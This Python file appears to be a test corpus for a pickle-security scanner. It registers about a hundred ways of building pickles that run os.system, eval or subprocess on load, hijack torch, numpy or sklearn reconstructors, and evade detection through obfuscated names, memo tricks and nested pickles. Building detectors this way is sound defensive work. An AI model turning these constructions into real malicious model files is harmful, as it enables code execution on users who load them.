"""How a pickle comes to call something: `(name, protocol, node)`, one technique each, with few gadgets.

Every entry would run code, reach the file system or load code when a file with it is loaded (a few need a certain
Python version); the expected verdict of all of them is `dangerous`.
"""
import struct

from assembler import (
    additems, append, appends, build, call, glob, inst, kept, new, new_ex, obj, pickled, setitem, setitems,
    short_string, stack_global, state_dict,
)
from gadgets import CODE, COMMAND

SYSTEM = glob("os", "system")
EVAL = glob("builtins", "eval")
ORDERED = glob("collections", "OrderedDict")
NAMESPACE = glob("types", "SimpleNamespace")

_all = []


def technique(name, protocol=2, whole=False):
    """Registers the node that a function returns. `whole`: the function gets the Writer of a whole pickle."""

    def register(function):
        _all.append((name, protocol, function if whole else function()))
        return function

    return register


def techniques():
    return list(_all)


# --- the opcodes that call

@technique("REDUCE")
def _reduce():
    return call(SYSTEM, COMMAND)


@technique("REDUCE in protocol 0", 0)
def _reduce0():
    return call(SYSTEM, COMMAND)


@technique("REDUCE in protocol 4", 4)
def _reduce4():
    return call(SYSTEM, COMMAND)


@technique("REDUCE with a list of arguments")
def _reduce_list():
    return lambda w: w.value(SYSTEM).value([COMMAND]).raw(b"R")


@technique("REDUCE with computed arguments")
def _reduce_computed():
    return lambda w: w.value(SYSTEM).value(call(glob("builtins", "tuple"), [COMMAND])).raw(b"R")


@technique("OBJ")
def _obj():
    return obj(SYSTEM, COMMAND)


@technique("OBJ of a memoized callee", 1)
def _obj_memo():
    first, again = kept(SYSTEM)
    return lambda w: w.value(first).raw(b"0").value(obj(again, COMMAND))


@technique("INST", 0)
def _inst():
    return inst("os", "system", COMMAND)


@technique("INST of a Python 2 name", 0)
def _inst2():
    return inst("__builtin__", "eval", CODE)


@technique("NEWOBJ")
def _newobj():
    return new(glob("builtins", "bytes"), new(glob("builtins", "map"), EVAL, [CODE]))


@technique("NEWOBJ of a process class")
def _newobj_class():
    return new(glob("subprocess", "Popen"), ["id"])


@technique("NEWOBJ of a function type", 4)
def _newobj_function():
    code = call(glob("marshal", "loads"), b"\xe3\x00")
    return call(new(glob("types", "FunctionType"), code, {}))


@technique("NEWOBJ_EX", 4)
def _newobj_ex():
    return new_ex(glob("subprocess", "Popen"), [], {"args": COMMAND, "shell": True})


@technique("NEWOBJ_EX of a map", 4)
def _newobj_ex_map():
    return new(glob("builtins", "tuple"), new_ex(glob("builtins", "map"), [EVAL, [CODE]], {}))


@technique("BUILD of an instance attribute that is __setstate__")
def _build_setstate():
    with_hook = build(call(NAMESPACE), {"__setstate__": SYSTEM})
    return build(with_hook, COMMAND)


@technique("BUILD of __setstate__ on an unknown class", 4)
def _build_setstate_unknown():
    return build(build(new(glob("argparse", "Namespace")), {"__setstate__": EVAL}), CODE)


@technique("BUILD with slot state on a class", 4)
def _build_slots():
    return build(glob("torch.nn", "Module"), (None, {"__call__": SYSTEM}))


@technique("BUILD with a dict on a function")
def _build_function():
    return build(glob("torch._utils", "_rebuild_tensor_v2"), {"__code__": call(glob("marshal", "loads"), b"N")})


@technique("BUILD of a module's attributes", 4)
def _build_module():
    return build(glob("torch", "nn"), (None, {"Linear": SYSTEM}))


@technique("BUILD of a partial")
def _build_partial():
    state = (SYSTEM, (COMMAND,), {}, {})
    return call(build(new(glob("functools", "partial"), glob("builtins", "print")), state))


@technique("BUILD with a computed state")
def _build_computed():
    return build(call(NAMESPACE), call(EVAL, CODE))


@technique("EXT1 after copyreg.add_extension")
def _ext1():
    return lambda w: (
        w.value(call(glob("copyreg", "add_extension"), "os", "system", 240)).raw(b"0").named("os", "system")
        .raw(b"\x82\xf0").value((COMMAND,)).raw(b"R")
    )


@technique("EXT2 after copyreg.add_extension", 4)
def _ext2():
    return lambda w: (
        w.value(call(glob("copyreg", "add_extension"), "builtins", "eval", 1000)).raw(b"0").named("builtins", "eval")
        .raw(b"\x83\xe8\x03").value((CODE,)).raw(b"R")
    )


@technique("EXT4 after copy_reg.add_extension")
def _ext4():
    return lambda w: (
        w.value(call(glob("copy_reg", "add_extension"), "posix", "system", 70000)).raw(b"0").named("posix", "system")
        .raw(b"\x84", struct.pack("<i", 70000)).value((COMMAND,)).raw(b"R")
    )


@technique("EXT1 through the registry's dict")
def _ext_registry():
    entry = setitem(glob("copyreg", "_inverted_registry"), 7, ("os", "system"))
    return lambda w: w.value(entry).raw(b"0\x82\x07").value((COMMAND,)).raw(b"R")


@technique("BINPERSID of a computed id")
def _persid():
    return lambda w: w.value(call(SYSTEM, COMMAND)).raw(b"Q")


@technique("BINPERSID with a storage class that is a call")
def _persid_storage():
    return lambda w: w.raw(b"(").value("storage").value(call(EVAL, CODE)).value("0").value("cpu").value(6).raw(b"tQ")


@technique("APPEND on a path of modules", 4)
def _append():
    return append(glob("sys", "path"), "./payload")


@technique("APPENDS on sys.meta_path", 4)
def _appends():
    return appends(glob("sys", "meta_path"), "x", "y")


@technique("APPEND on an object whose method was replaced")
def _append_method():
    return append(build(call(NAMESPACE), {"append": SYSTEM, "extend": SYSTEM}), COMMAND)


@technique("SETITEM on sys.modules")
def _setitem():
    return setitem(glob("sys", "modules"), "torch", call(glob("types", "ModuleType"), "torch"))


@technique("SETITEM on os.environ")
def _setitem_environ():
    return setitem(glob("os", "environ"), "LD_PRELOAD", "./payload.so")


@technique("SETITEMS on builtins", 4)
def _setitems():
    return setitems(glob("builtins", "__dict__"), "print", SYSTEM)


@technique("SETITEM on a shelf")
def _setitem_shelf():
    return setitem(call(glob("shelve", "open"), "payload"), "a", "b")


@technique("ADDITEMS on an object whose method was replaced", 4)
def _additems():
    return additems(build(call(NAMESPACE), {"add": SYSTEM, "update": SYSTEM}), COMMAND)


@technique("SETITEM runs defaultdict's factory")
def _defaultdict():
    made = call(glob("collections", "defaultdict"), glob("os", "abort"))
    return call(glob("operator", "getitem"), made, 1)


@technique("keys whose hash is computed")
def _dict_key():
    return {"a": 1, 3: call(SYSTEM, COMMAND)}


# --- results that nobody sees

@technique("result popped")
def _popped():
    return lambda w: w.value(call(SYSTEM, COMMAND)).raw(b"0").value({"a": 1})


@technique("result popped to a mark")
def _pop_mark():
    return lambda w: w.raw(b"(").value(call(SYSTEM, COMMAND)).raw(b"1").value({"a": 1})


@technique("mark popped by POP", 1)
def _pop_of_mark():
    return lambda w: w.raw(b"(0").value(call(SYSTEM, COMMAND)).raw(b"0").value({"a": 1})


@technique("result memoized, popped, never used")
def _memo_only():
    first, _ = kept(call(SYSTEM, COMMAND))
    return lambda w: w.value(first).raw(b"0").value({"a": 1})


@technique("memo entry overwritten", 1)
def _memo_overwritten():
    def write(w):
        w.value(SYSTEM).raw(b"q\x05").raw(b"0").value("conv1.weight").raw(b"q\x050")
        w.value(SYSTEM).raw(b"q\x060h\x06").value((COMMAND,)).raw(b"R0").value({"a": 1})

    return write


@technique("result below the top at STOP")
def _below_top():
    return lambda w: w.value(call(SYSTEM, COMMAND)).value({"a": 1})


@technique("call inside a key")
def _call_key():
    return setitem({}, call(EVAL, CODE), 1)


@technique("call inside an unused mark")
def _unused_mark():
    return lambda w: w.raw(b"((").value(call(EVAL, CODE)).raw(b"11").value([1])


@technique("call within a tensor's arguments")
def _within_tensor():
    return call(glob("torch._utils", "_rebuild_parameter"), call(EVAL, CODE), True, call(ORDERED))


@technique("call within a tensor's hooks", 2)
def _within_hooks():
    def write(w):
        w.glob("torch._utils", "_rebuild_tensor_v2").raw(b"(")
        w.raw(b"(").value("storage").glob("torch", "FloatStorage").value("0").value("cpu").value(6).raw(b"tQ")
        w.value(0).value((2, 3)).value((3, 1)).value(False).value(call(SYSTEM, COMMAND)).raw(b"tR")

    return write


@technique("state of an OrderedDict")
def _state_ordered():
    return build(call(ORDERED), {"_metadata": call(EVAL, CODE)})


@technique("whole state_dict first, then the call", 2)
def _after_state():
    return lambda w: w.value(state_dict()).value(call(SYSTEM, COMMAND)).raw(b"0")


@technique("after ten thousand harmless calls")
def _late():
    return lambda w: w.value([call(ORDERED)] * 10_000).value(call(SYSTEM, COMMAND)).raw(b"0")


# --- names that are no plain text

@technique("name duplicated by DUP", 4)
def _dup():
    return call(stack_global("os", lambda w: w.value("system").raw(b"20"), ("os", "system")), COMMAND)


@technique("one string for module and name", 4)
def _same_name():
    return call(stack_global("timeit", lambda w: w.raw(b"2"), ("timeit", "timeit")), CODE)


@technique("names from the memo", 4)
def _memo_names():
    module, module_again = kept("os")
    name, name_again = kept("system")

    def write(w):
        w.value(module).value(name).raw(b"00").value(call(stack_global(module_again, name_again, ("os", "system")), COMMAND))

    return write


@technique("names from the memo, put with an index of its own", 4)
def _memo_confusion():
    def write(w):
        w.value("os").raw(b"q\x000").value("system").raw(b"q\x010")
        # MEMOIZE counts the entries: it puts these at 2 and 3, and a scanner that ignores BINPUT at 0 and 1.
        w.value("torch._utils").raw(b"\x940").value("_rebuild_tensor_v2").raw(b"\x940")
        w.raw(b"h\x00h\x01\x93").named("os", "system").value((COMMAND,)).raw(b"R")

    return write


@technique("names from a memo index of four bytes", 4)
def _memo_large():
    def write(w):
        w.value("os").raw(b"r\xff\xff\xff\x7f0").value("system").raw(b"r\xfe\xff\xff\x7f0")
        w.raw(b"j\xff\xff\xff\x7fj\xfe\xff\xff\x7f\x93").named("os", "system").value((COMMAND,)).raw(b"R")

    return write


@technique("names between other values", 4)
def _between():
    def write(w):
        w.value("os").value(1).raw(b"0").value("system").value([]).raw(b"0\x93").named("os", "system")
        w.value((COMMAND,)).raw(b"R")

    return write


@technique("names in strings of Python 2", 4)
def _python2_strings():
    return call(stack_global(short_string("os"), short_string("system"), ("os", "system")), COMMAND)


@technique("names in UNICODE with escapes", 4)
def _escapes():
    module = lambda w: w.raw(b"V\\u006f\\u0073\n")
    name = lambda w: w.raw(b"V\\u0073ystem\n")
    return call(stack_global(module, name, ("os", "system")), COMMAND)


@technique("names in STRING with escapes", 4)
def _string_escapes():
    module = lambda w: w.raw(b"S'\\x6fs'\n")
    name = lambda w: w.raw(b"S\"\\x73ystem\"\n")
    return call(stack_global(module, name, ("os", "system")), COMMAND)


@technique("names in BINUNICODE8 and BINSTRING", 4)
def _long_forms():
    module = lambda w: w.raw(b"\x8d", struct.pack("<Q", 2), b"os")
    name = lambda w: w.raw(b"T", struct.pack("<i", 6), b"system")
    return call(stack_global(module, name, ("os", "system")), COMMAND)


@technique("names that a call computes", 4)
def _computed():
    module = call(glob("builtins", "str.lower"), "OS")
    name = call(glob("builtins", "str.replace"), "sXystem", "X", "")
    return call(lambda w: w.value(module).value(name).raw(b"\x93"), COMMAND)


@technique("names joined by operator.concat", 4)
def _joined():
    name = call(glob("operator", "concat"), "sys", "tem")
    return call(lambda w: w.value("os").value(name).raw(b"\x93"), COMMAND)


@technique("names decoded by codecs", 4)
def _decoded():
    name = call(glob("codecs", "decode"), "flfgrz", "rot13")
    return call(lambda w: w.value("os").value(name).raw(b"\x93"), COMMAND)


@technique("dotted name", 4)
def _dotted():
    return call(glob("torch", "serialization.os.system"), COMMAND)


@technique("dotted name in GLOBAL of protocol 4", 4)
def _dotted_line():
    return call(lambda w: w.named("collections", "_sys.exit").line_global("collections", "_sys.exit"), 1)


@technique("method of a builtin", 4)
def _method():
    return call(glob("builtins", "eval.__call__"), CODE)


@technique("GLOBAL with PROTO in the middle", 0)
def _proto_later():
    return lambda w: w.raw(b"\x80\x04").value(call(glob("builtins", "exec.__call__"), CODE))


@technique("module path of many parts", 4)
def _deep_module():
    return call(glob("torch.utils.data.datapipes.utils.decoder", "os.path.os.system"), COMMAND)


@technique("text after GLOBAL looks like torch's", 2)
def _mimicry():
    return lambda w: w.value("torch._utils").value("_rebuild_tensor_v2").raw(b"00").value(call(SYSTEM, COMMAND))


@technique("an id that looks like STOP")
def _stop_in_text():
    return lambda w: w.value("...").raw(b"0").value(call(SYSTEM, COMMAND))


# --- callees that are results

@technique("getattr of an imported module")
def _getattr_chain():
    module = call(glob("builtins", "__import__"), "os")
    return call(call(glob("builtins", "getattr"), module, "system"), COMMAND)


@technique("getattr of an imported module in Python 2 names", 0)
def _getattr_chain2():
    module = call(glob("__builtin__", "__import__"), "os")
    return call(call(glob("__builtin__", "getattr"), module, "system"), COMMAND)


@technique("importlib, then getattr", 4)
def _importlib():
    module = call(glob("importlib", "import_module"), "subprocess")
    return call(call(glob("builtins", "getattr"), module, "Popen"), "id")


@technique("globals of a torch function through getattr")
def _function_globals():
    names = call(glob("builtins", "getattr"), glob("torch._utils", "_rebuild_tensor"), "__globals__")
    module = call(call(glob("builtins", "getattr"), names, "get"), "sys")
    return call(call(glob("builtins", "getattr"), module, "exit"), 1)


@technique("dict.get of sys.modules", 4)
def _dict_get():
    module = call(glob("builtins", "dict.get"), glob("sys", "modules"), "os")
    return call(call(glob("builtins", "getattr"), module, "system"), COMMAND)


@technique("partial of a command")
def _partial():
    return call(call(glob("functools", "partial"), SYSTEM, COMMAND))


@technique("partial, built by OBJ", 1)
def _partial_obj():
    return obj(obj(glob("functools", "partial"), SYSTEM, COMMAND))


@technique("functools.reduce")
def _fold():
    return call(glob("functools", "reduce"), EVAL, [CODE, {}])


@technique("map, consumed by list", 4)
def _map_list():
    return call(glob("builtins", "list"), call(glob("builtins", "map"), EVAL, [CODE]))


@technique("map, consumed by APPENDS")
def _map_bytearray():
    return call(glob("builtins", "bytearray"), call(glob("builtins", "map"), SYSTEM, [COMMAND]))


@technique("filter, consumed by next", 4)
def _filter_next():
    return call(glob("builtins", "next"), call(glob("builtins", "filter"), SYSTEM, [COMMAND]))


@technique("map, consumed by OrderedDict", 2)
def _map_ordered():
    return call(ORDERED, call(glob("builtins", "map"), SYSTEM, [COMMAND]))


@technique("Python 2 map", 0)
def _map2():
    return call(glob("__builtin__", "map"), glob("__builtin__", "eval"), [CODE])


@technique("max with a key", 4)
def _max():
    return call(glob("builtins", "sorted"), [COMMAND], None, EVAL)


@technique("iter with a sentinel", 4)
def _iter():
    return call(glob("builtins", "next"), call(glob("builtins", "iter"), glob("builtins", "breakpoint"), 1))


@technique("operator.attrgetter of a module path")
def _attrgetter():
    return call(call(glob("operator", "attrgetter"), "system"), glob("os", "path"))


@technique("operator.methodcaller")
def _methodcaller():
    module = call(glob("builtins", "__import__"), "os")
    return call(call(glob("operator", "methodcaller"), "system", COMMAND), module)


@technique("function made of marshalled code", 4)
def _marshal():
    code = call(glob("marshal", "loads"), b"\xe3" + bytes(20))
    return call(call(glob("types", "FunctionType"), code, {}, "f"))


@technique("code object by hand", 4)
def _code_type():
    code = call(glob("types", "CodeType"), 0, 0, 0, 0, 1, 67, b"d\x00S\x00", (None,), (), (), "x", "f", "f", 1, b"", b"")
    return call(call(glob("types", "FunctionType"), code, {}))


@technique("cloudpickle's function", 4)
def _cloudpickle():
    code = call(call(glob("cloudpickle.cloudpickle", "_builtin_type"), "CodeType"), 0)
    return call(call(glob("cloudpickle.cloudpickle", "_make_function"), code, {}, None, None, None))


@technique("dill's function", 4)
def _dill():
    return call(call(glob("dill._dill", "_create_function"), call(glob("dill._dill", "_create_code"), b"x"), {}))


@technique("class made by type with a method of another module", 4)
def _type_class():
    made = call(glob("builtins", "type"), "X", (glob("builtins", "object"),), {"__setstate__": SYSTEM})
    return build(new(made), COMMAND)


@technique("class with __getattr__", 4)
def _type_getattr():
    made = call(glob("builtins", "type"), "X", (), {"__add__": EVAL})
    return call(glob("operator", "add"), call(made), CODE)


@technique("result of a call is called")
def _call_call():
    return call(call(glob("operator", "itemgetter"), "eval"), glob("builtins", "__dict__"))


@technique("copyreg.__newobj__")
def _copyreg_newobj():
    return call(glob("copyreg", "__newobj__"), glob("subprocess", "Popen"), "id")


@technique("copyreg._reconstructor of a process class")
def _reconstructor():
    return call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("builtins", "object"), None)


@technique("torch's rebuild with a class that is a call")
def _rebuild_from_type():
    return call(glob("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, glob("torch", "Tensor"), (COMMAND,), {})


@technique("torch's old rebuild with a function")
def _rebuild_from_type_old():
    return call(glob("torch._tensor", "_rebuild_from_type"), EVAL, glob("torch", "Tensor"), (CODE,), {})


@technique("numpy's reconstruct of a class")
def _numpy_reconstruct():
    return call(glob("numpy.core.multiarray", "_reconstruct"), glob("subprocess", "Popen"), (0,), b"b")


@technique("numpy's vectorize")
def _vectorize():
    return call(call(glob("numpy", "vectorize"), EVAL), CODE)


@technique("numpy's apply_along_axis", 4)
def _apply_along():
    return call(glob("numpy", "apply_along_axis"), SYSTEM, 0, [COMMAND])


@technique("numpy's frompyfunc", 4)
def _frompyfunc():
    return call(call(glob("numpy", "frompyfunc"), EVAL, 1, 1), CODE)


@technique("joblib's delayed function", 4)
def _joblib_parallel():
    return call(call(glob("joblib.parallel", "Parallel"), 1), [(SYSTEM, (COMMAND,), {})])


@technique("torch's tree_map", 4)
def _tree_map():
    return call(glob("torch.utils._pytree", "tree_map"), EVAL, [CODE])


@technique("torch.nn.Module.apply", 4)
def _module_apply():
    return call(glob("torch.nn", "Module.apply"), new(glob("torch.nn", "Linear")), SYSTEM)


@technique("a defaultdict of a command")
def _factory():
    return call(glob("collections", "defaultdict"), SYSTEM)


@technique("a forward hook that is a command", 2)
def _hook():
    hooks = setitem(call(ORDERED), 0, SYSTEM)
    return build(new(glob("torch.nn.modules.linear", "Linear")), {"training": True, "_forward_hooks": hooks})


@technique("a module's forward that is a command", 2)
def _forward():
    return build(new(glob("torch.nn.modules.linear", "Linear")), {"forward": EVAL, "_parameters": call(ORDERED)})


@technique("import with a side effect", 4)
def _import_effect():
    return glob("antigravity", "fly")


# --- pickles inside pickles

@technique("nested pickle.loads")
def _nested():
    inner, _ = pickled(call(SYSTEM, COMMAND), 2)
    return call(glob("pickle", "loads"), inner)


@technique("nested torch.load of bytes", 4)
def _nested_torch():
    inner, _ = pickled(call(SYSTEM, COMMAND), 2)
    return call(glob("torch", "load"), call(glob("io", "BytesIO"), inner))


@technique("storage from bytes, which is torch.load", 2)
def _load_from_bytes():
    inner, _ = pickled(call(SYSTEM, COMMAND), 2)
    return call(glob("torch.storage", "_load_from_bytes"), inner)


@technique("three pickles deep", 4)
def _nested_deep():
    inner, _ = pickled(call(SYSTEM, COMMAND), 2)
    inner, _ = pickled(call(glob("_pickle", "loads"), inner), 4)
    return call(glob("cPickle", "loads"), inner)


@technique("base64 and exec", 4)
def _base64():
    return call(glob("builtins", "exec"), call(glob("base64", "b64decode"), "cHJpbnQoMSk="))


@technique("zlib and eval", 4)
def _zlib():
    return call(EVAL, call(glob("zlib", "decompress"), b"x\x9c"))


@technique("TorchScript from bytes", 4)
def _jit_bytes():
    return call(glob("torch.jit", "load"), call(glob("io", "BytesIO"), b"PK\x03\x04"))


@technique("fx graph source", 2)
def _fx():
    body = {"_code": f"def forward(self, x):\n    {CODE}\n    return x\n", "_graphmodule_cls_name": "G"}
    return call(glob("torch.fx.graph_module", "reduce_graph_module"), body, "import os\n")


@technique("sklearn transformer with a command", 4)
def _function_transformer():
    made = new(glob("sklearn.preprocessing._function_transformer", "FunctionTransformer"))
    return build(made, {"func": SYSTEM, "validate": False})


@technique("PROTO repeated", 2)
def _proto_again():
    return lambda w: w.raw(b"\x80\x04\x80\x02").value(call(SYSTEM, COMMAND))


@technique("FRAME opcodes between", 4)
def _frames():
    inner = b"\x8c\x02os\x8c\x06system\x93"
    return lambda w: (
        w.raw(b"\x95", struct.pack("<Q", len(inner)), inner).named("os", "system").raw(b"\x95", struct.pack("<Q", 0))
        .value((COMMAND,)).raw(b"R")
    )


@technique("GET before PUT is no hindrance", 0)
def _text_memo():
    return lambda w: w.value(SYSTEM).raw(b"p99\n0g99\n").value((COMMAND,)).raw(b"R")


@technique("argument is the callee's memo", 4)
def _recursive():
    def write(w):
        w.value([]).raw(b"q\x07").value(SYSTEM).raw(b"a0h\x07").value((COMMAND,)).raw(b"0")
        w.value(glob("builtins", "list.pop")).raw(b"h\x07\x85R").value((COMMAND,)).raw(b"R")

    return write
